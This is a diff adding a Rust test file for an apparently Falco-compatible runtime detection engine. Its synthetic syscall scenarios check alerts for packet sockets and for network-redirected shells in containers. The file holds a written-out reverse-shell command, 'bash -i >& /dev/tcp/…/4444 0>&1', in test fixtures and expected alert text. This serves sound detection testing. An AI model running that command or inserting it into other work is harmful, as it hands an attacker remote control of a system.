@@ -1,0 +1,260 @@
+//! Upstream stable rules 14–25 of `falco_rules.yaml` (file order), end to end: realistic synthetic
+//! syscall sequences go through state, evaluation and output, and each rule's alert is checked
+//! against the exact line Falco prints for the same events; a near-miss per rule (the one detail
+//! the rule excludes) must stay silent.
+mod stable_common;
+
+use stable_common::*;
+use syssentry_engine::event::ppm::{af, clone as cl, exe, ipproto, open::*, ptrace, sock, AT_FDCWD};
+use syssentry_engine::event::{mk, EventBuilder, EventType, SockTuple};
+use syssentry_engine::rules::Priority;
+use syssentry_engine::state::{Caps, ContainerInfo};
+
+/// Short and full id of the test container.
+const CID: &str = "3ad7b26ded6d";
+const CID_FULL: &str = "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e";
+/// Start time of the container's pid namespace (its init process), before [`T0`].
+const CT_START: u64 = T0 - 600_000_000_000;
+/// The container's address on the docker bridge.
+const CT_IP: &str = "172.17.0.3";
+
+/// Default capabilities of a docker container (CAP_CHOWN … CAP_SETFCAP).
+const CAPS_DOCKER: u64 = 0x0000_0000_a804_25fb;
+/// Every capability up to CAP_CHECKPOINT_RESTORE (a `--privileged` container's root).
+const CAPS_ALL: u64 = 0x0000_01ff_ffff_ffff;
+/// CAP_SYS_ADMIN.
+const CAP_SYS_ADMIN: u64 = 1 << 21;
+
+/// `/dev/pts/0` and `/dev/pts/1`.
+const PTS0: u32 = 34816;
+const PTS1: u32 = 34817;
+
+/// glibc `fork()`: `CLONE_CHILD_CLEARTID | CLONE_CHILD_SETTID` in the driver's encoding.
+const FORK_FLAGS: u32 = (1 << 25) | (1 << 26);
+
+/// The suggested container fields for a process of the test container.
+fn ct_suffix() -> String {
+    format!(
+        "container_id={CID} container_name=web container_image_repository=docker.io/library/php \
+         container_image_tag=8.3-fpm k8s_pod_name=<NA> k8s_ns_name=<NA>"
+    )
+}
+
+/// Registers the test container (metadata as the runtime reports it) and its users.
+fn container(h: &mut Harness, privileged: bool) {
+    h.container(ContainerInfo {
+        id: CID.into(),
+        full_id: CID_FULL.into(),
+        name: "web".into(),
+        image: "docker.io/library/php:8.3-fpm".into(),
+        image_repository: "docker.io/library/php".into(),
+        image_tag: "8.3-fpm".into(),
+        container_type: "docker".into(),
+        privileged,
+        ip: CT_IP.into(),
+        ..ContainerInfo::default()
+    });
+    let st = h.state();
+    st.users.load_passwd(
+        CID,
+        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
+    );
+    st.groups.load_group(CID, "root:x:0:\nwww-data:x:33:\n");
+}
+
+/// The cgroups the kernel reports for a process of the test container (systemd cgroup driver).
+fn ct_cgroups() -> Vec<String> {
+    ["cpuset", "cpu", "memory", "pids"]
+        .iter()
+        .map(|s| format!("{s}=/system.slice/docker-{CID_FULL}.scope"))
+        .collect()
+}
+
+/// The host's init and the container's shim, present in every scenario.
+fn seed_base(h: &mut Harness) {
+    h.process(Proc::new(1, 0, "/usr/lib/systemd/systemd", &["/sbin/init", "splash"]));
+    h.process(Proc::new(
+        150,
+        1,
+        "/usr/bin/containerd-shim-runc-v2",
+        &["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", CID_FULL],
+    ));
+}
+
+/// Seeds a process of the test container: in its own pid namespace (`vpid`), session `sid`
+/// (a namespace id), with capability set `caps`.
+fn seed_ct(h: &mut Harness, p: Proc<'_>, vpid: i64, sid: i64, caps: u64) {
+    h.process(Proc { container: Some(CID), ..p });
+    let t = h.state().thread_mut(p.pid).expect("seeded");
+    t.vtid = vpid;
+    t.vpid = vpid;
+    t.sid = sid;
+    t.caps = std::sync::Arc::new(Caps::new(0, caps, caps));
+    t.pidns_init_start_ts = CT_START;
+    t.cgroups = std::sync::Arc::new(ct_cgroups());
+}
+
+/// `parent` forks `child` (glibc `fork()` = `clone`): the caller's exit event, then the child's
+/// (the one that creates a child living in a pid namespace), with what the kernel reports.
+fn fork(h: &mut Harness, parent: i64, child: i64, child_vpid: i64) {
+    let t = h.engine.state().thread(parent).expect("parent").clone();
+    let in_ns = t.vtid != t.tid;
+    let flags = FORK_FLAGS | if in_ns { cl::CLONE_CHILD_IN_PIDNS } else { 0 };
+    let args: Vec<&str> = t.image.args.iter().map(String::as_str).collect();
+    let cgroups: Vec<&str> = t.cgroups.iter().map(String::as_str).collect();
+    let vpid = if in_ns { child_vpid } else { child };
+    let fill = |b: EventBuilder, pid: i64, ptid: i64, tvpid: i64| {
+        b.str("exe", &t.image.exe)
+            .list("args", &args)
+            .int("pid", pid)
+            .int("ptid", ptid)
+            .str("cwd", &t.cwd)
+            .str("comm", &t.image.comm)
+            .list("cgroups", &cgroups)
+            .uint("uid", t.uid.into())
+            .uint("gid", t.gid.into())
+            .int("vtid", tvpid)
+            .int("vpid", tvpid)
+            .uint("pidns_init_start_ts", t.pidns_init_start_ts)
+    };
+    let caller = fill(mk::clone(parent, child, flags), t.pid, t.ptid, t.vpid).build();
+    h.feed(caller);
+    let child_ev = fill(mk::clone_child(child, child, parent, flags), child, parent, vpid).build();
+    h.feed(child_ev);
+}
+
+/// A successful `execve` exit of `tid` with every parameter the driver fills, taken from the
+/// thread as it is before the exec (identity, terminal, cgroups) and from the arguments.
+fn execve(h: &Harness, tid: i64, exepath: &str, argv: &[&str], flags: u32) -> EventBuilder {
+    let t = h.engine.state().thread(tid).expect("exec caller");
+    let cgroups: Vec<&str> = t.cgroups.iter().map(String::as_str).collect();
+    mk::execve(tid, t.pid, exepath, argv, 0)
+        .int("ptid", t.ptid)
+        .str("cwd", &t.cwd)
+        .uint("fdlimit", 1_048_576)
+        .list("cgroups", &cgroups)
+        .list("env", &["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"])
+        .uint("tty", t.tty.into())
+        .int("vpgid", t.vpid)
+        .uint("loginuid", t.loginuid.into())
+        .flags("flags", flags)
+        .uint("cap_inheritable", t.caps.inheritable)
+        .uint("cap_permitted", t.caps.permitted)
+        .uint("cap_effective", t.caps.effective)
+        .uint("uid", t.uid.into())
+        .int("pgid", t.pid)
+        .uint("gid", t.gid.into())
+}
+
+fn ipv4(sip: &'static str, sport: u16, dip: &'static str, dport: u16) -> SockTuple<&'static str> {
+    SockTuple::Inet { sip: sip.parse().unwrap(), sport, dip: dip.parse().unwrap(), dport }
+}
+
+// 14 ------------------------------------------------------------------------------------------
+
+#[test]
+fn packet_socket_created_in_container() {
+    let mut h = Harness::stable();
+    seed_base(&mut h);
+    container(&mut h, false);
+    // `docker exec -it web bash`, then a sniffer from the image.
+    seed_ct(&mut h, Proc { tty: PTS0, cwd: "/var/www/html/", ..Proc::new(200, 150, "/usr/bin/bash", &["bash"]) }, 7, 7, CAPS_DOCKER);
+    fork(&mut h, 200, 201, 8);
+    let ev = execve(&h, 201, "/usr/bin/tcpdump", &["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"], exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER);
+    h.feed(ev.build());
+    let prefix = h.next_prefix();
+    // libpcap: socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)).
+    let alerts = h.feed(mk::socket(201, af::AF_PACKET, sock::SOCK_RAW, 768, 3).build());
+    expect_alert(
+        &alerts,
+        "Packet socket created in container",
+        Priority::Notice,
+        &format!(
+            "{prefix}: Notice Packet socket was created in a container | socket_info=fd=3(<o>) domain=17(AF_PACKET) \
+             type=3 proto=768 flags=0(O_NONE) connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> \
+             evt_type=socket user=root user_uid=0 user_loginuid=-1 process=tcpdump proc_exepath=/usr/bin/tcpdump \
+             parent=bash command=tcpdump -i eth0 -w /tmp/cap.pcap terminal={PTS0} {}",
+            ct_suffix()
+        ),
+    );
+
+    // Near-miss: the same capture on the host.
+    h.process(Proc { tty: PTS1, ..Proc::new(300, 1, "/usr/bin/bash", &["-bash"]) });
+    fork(&mut h, 300, 301, 0);
+    let ev = execve(&h, 301, "/usr/bin/tcpdump", &["tcpdump", "-i", "eth0"], exe::EXE_WRITABLE);
+    h.feed(ev.build());
+    let alerts = h.feed(mk::socket(301, af::AF_PACKET, sock::SOCK_RAW, 768, 3).build());
+    expect_no_alert(&alerts, "Packet socket created in container");
+    // Near-miss: an IP raw socket (ping) in the container.
+    fork(&mut h, 200, 202, 9);
+    let ev = execve(&h, 202, "/usr/bin/ping", &["ping", "-c1", "10.0.0.1"], exe::EXE_WRITABLE | exe::EXE_LOWER_LAYER);
+    h.feed(ev.build());
+    let alerts = h.feed(mk::socket(202, af::AF_INET, sock::SOCK_RAW, ipproto::ICMP, 3).build());
+    expect_no_alert(&alerts, "Packet socket created in container");
+}
+
+// 15 ------------------------------------------------------------------------------------------
+
+/// A php-fpm container whose worker (www-data) runs an injected command:
+/// `sh -c "bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"`; returns the tid of that
+/// inner bash, which has opened and connected fd 3 to the attacker.
+fn reverse_shell(h: &mut Harness) -> i64 {
+    seed_base(h);
+    container(h, false);
+    seed_ct(h, Proc::new(180, 150, "/usr/local/sbin/php-fpm", &["php-fpm: master process (/usr/local/etc/php-fpm.conf)"]), 1, 1, CAPS_DOCKER);
+    seed_ct(h, Proc { uid: 33, ..Proc::new(181, 180, "/usr/local/sbin/php-fpm", &["php-fpm: pool www"]) }, 7, 1, 0);
+    fork(h, 181, 200, 20);
+    let ev = execve(h, 200, "/usr/bin/dash", &["sh", "-c", "bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'"], exe::EXE_LOWER_LAYER);
+    h.feed(ev.str("comm", "sh").build());
+    fork(h, 200, 201, 21);
+    let ev = execve(h, 201, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"], exe::EXE_LOWER_LAYER);
+    h.feed(ev.build());
+    h.feed(mk::socket(201, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, 3).build());
+    h.feed(mk::connect(201, 3, ipv4(CT_IP, 41834, "203.0.113.10", 4444), 0).build());
+    201
+}
+
+#[test]
+fn redirect_stdout_stdin_to_network_connection_in_container() {
+    let mut h = Harness::stable();
+    let tid = reverse_shell(&mut h);
+    let expected = |prefix: &str, ty: &str| {
+        format!(
+            "{prefix}: Notice Redirect stdout/stdin to network connection | gparent=php-fpm ggparent=php-fpm \
+             gggparent=containerd-shim fd.sip=203.0.113.10 connection={CT_IP}:41834->203.0.113.10:4444 lport=41834 \
+             rport=4444 fd_type=ipv4 fd_proto=tcp evt_type={ty} user=www-data user_uid=33 user_loginuid=-1 \
+             process=bash proc_exepath=/usr/bin/bash parent=sh command=bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1 \
+             terminal=0 {}",
+            ct_suffix()
+        )
+    };
+    // Near-miss: the socket duplicated onto a high fd (not a standard stream).
+    let alerts = h.feed(mk::dup2(tid, 3, 10, 10).build());
+    expect_no_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container");
+    // `>&`: the socket onto stdout, then stdout onto stderr; `0>&1`: onto stdin.
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::dup2(tid, 3, 1, 1).build());
+    expect_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container", Priority::Notice, &expected(&prefix, "dup2"));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::dup3(tid, 1, 2, 0, 2).build());
+    expect_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container", Priority::Notice, &expected(&prefix, "dup3"));
+    let prefix = h.next_prefix();
+    let alerts = h.feed(mk::dup2(tid, 1, 0, 0).build());
+    expect_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container", Priority::Notice, &expected(&prefix, "dup2"));
+    // Near-miss: a failed dup2 onto stdin (EBADF) changes nothing.
+    let alerts = h.feed(mk::dup2(tid, 9, 0, -9).build());
+    expect_no_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container");
+}
+
+#[test]
+fn redirect_stdout_to_network_on_host_is_not_in_container() {
+    // Near-miss: the same redirection by a host shell.
+    let mut h = Harness::stable();
+    h.state().local_addrs.push("192.168.1.23".parse().unwrap());
+    h.process(Proc::new(1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"]));
+    h.process(Proc::new(400, 1, "/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"]));
+    h.feed(mk::socket(400, af::AF_INET, sock::SOCK_STREAM, ipproto::TCP, 3).build());
+    h.feed(mk::connect(400, 3, ipv4("192.168.1.23", 41834, "203.0.113.10", 4444), 0).build());
+    let alerts = h.feed(mk::dup2(400, 3, 1, 1).build());
+    expect_no_alert(&alerts, "Redirect STDOUT/STDIN to Network Connection in Container");
+}
